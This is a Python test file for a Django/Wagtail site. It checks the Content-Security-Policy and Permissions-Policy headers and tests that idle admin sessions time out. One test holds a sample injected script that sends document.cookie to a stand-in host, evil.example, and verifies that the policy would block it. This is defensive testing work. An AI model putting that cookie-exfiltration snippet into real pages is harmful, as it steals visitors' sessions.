"""What a browser is told to refuse: scripts the site did not write (Content-Security-Policy allowing
only the hashed inline script), powerful features no page uses (Permissions-Policy); and admin
sessions left idle end."""

from datetime import timedelta
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from django.conf import settings
from django.contrib.sessions.backends import db as session_db
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from cms.inline_scripts import JS_ENABLED, csp_hash
from tests.home.conftest import PASSWORD

pytestmark = pytest.mark.django_db

PUBLIC_PAGES = ["/", "/search/?query=library"]


def policy(response):
    """The Content-Security-Policy header as {directive: [sources]}."""
    header = response.headers.get("Content-Security-Policy", "")
    directives = (part.split() for part in header.split(";") if part.strip())
    return {name: sources for name, *sources in directives}


@pytest.fixture
def library_finder(home_page):
    from libraries.models import LibraryIndexPage

    return LibraryIndexPage.objects.get().url


@pytest.mark.parametrize("path", PUBLIC_PAGES)
def test_public_pages_run_only_the_sites_own_scripts(client, path):
    response = client.get(path)

    scripts = policy(response)["script-src"]
    assert "'unsafe-inline'" not in scripts
    assert "'unsafe-eval'" not in scripts
    page = BeautifulSoup(response.content, "html.parser")
    inline = [script for script in page.find_all("script") if not script.get("src")]
    executable = [s for s in inline if s.get("type") not in ("application/json", "application/ld+json")]
    assert executable
    # Each allowed by its own hash, so the same bytes served from the page cache still run.
    assert all(csp_hash(script.string) in scripts for script in executable)


def test_a_script_edited_in_the_page_would_not_run(client):
    scripts = policy(client.get("/"))["script-src"]

    assert csp_hash(JS_ENABLED + "fetch('https://evil.example/?' + document.cookie);") not in scripts


def test_a_script_injected_without_the_nonce_would_not_run(client):
    directives = policy(client.get("/"))

    assert directives["default-src"] == ["'self'"]
    assert directives["object-src"] == ["'none'"]
    assert directives["base-uri"] == ["'self'"]
    assert directives["form-action"] == ["'self'"]
    assert directives["frame-ancestors"] == ["'self'"]


def test_the_library_map_may_load_its_tiles(client, library_finder):
    tiles = urlsplit(settings.MAP_TILE_URL)
    directives = policy(client.get(library_finder))

    assert f"{tiles.scheme}://{tiles.netloc}" in directives["img-src"]


def test_the_admin_has_a_policy_too(client, moderator):
    client.force_login(moderator)

    directives = policy(client.get(reverse("wagtailadmin_home")))

    assert directives["object-src"] == ["'none'"]
    assert directives["frame-ancestors"] == ["'self'"]
    assert directives["form-action"] == ["'self'"]


@pytest.mark.parametrize("path", ["/", "/admin/login/"])
def test_camera_microphone_and_payment_are_switched_off(client, path):
    header = client.get(path).headers["Permissions-Policy"]

    features = dict(part.strip().split("=", 1) for part in header.split(","))
    for feature in ("camera", "microphone", "payment", "usb", "interest-cohort"):
        assert features[feature] == "()"
    # "Libraries near me" asks for the visitor's location on this site only.
    assert features["geolocation"] == "(self)"


# Idle admin sessions


def signed_in_client(user):
    client = Client()
    client.post(reverse("wagtailadmin_login"), {"username": user.username, "password": PASSWORD})
    return client


def at(monkeypatch, moment):
    monkeypatch.setattr(session_db.timezone, "now", lambda: moment)


def is_signed_in(client):
    return client.get(reverse("wagtailadmin_home")).status_code == 200


IDLE = timedelta(minutes=settings.ADMIN_SESSION_IDLE_MINUTES)


def test_the_idle_limit_is_a_few_hours_not_weeks():
    assert timedelta(hours=1) <= IDLE <= timedelta(hours=8)


def test_a_session_idle_just_under_the_limit_is_still_signed_in(moderator, monkeypatch):
    start = timezone.now()
    client = signed_in_client(moderator)

    at(monkeypatch, start + IDLE - timedelta(minutes=1))

    assert is_signed_in(client)


def test_a_session_idle_just_over_the_limit_must_sign_in_again(moderator, monkeypatch):
    start = timezone.now()
    client = signed_in_client(moderator)

    at(monkeypatch, start + IDLE + timedelta(minutes=1))

    assert not is_signed_in(client)


def test_working_in_the_admin_keeps_the_session_going(moderator, monkeypatch):
    start = timezone.now()
    client = signed_in_client(moderator)
    at(monkeypatch, start + IDLE - timedelta(minutes=1))
    assert is_signed_in(client)

    at(monkeypatch, start + 2 * IDLE - timedelta(minutes=3))

    assert is_signed_in(client)
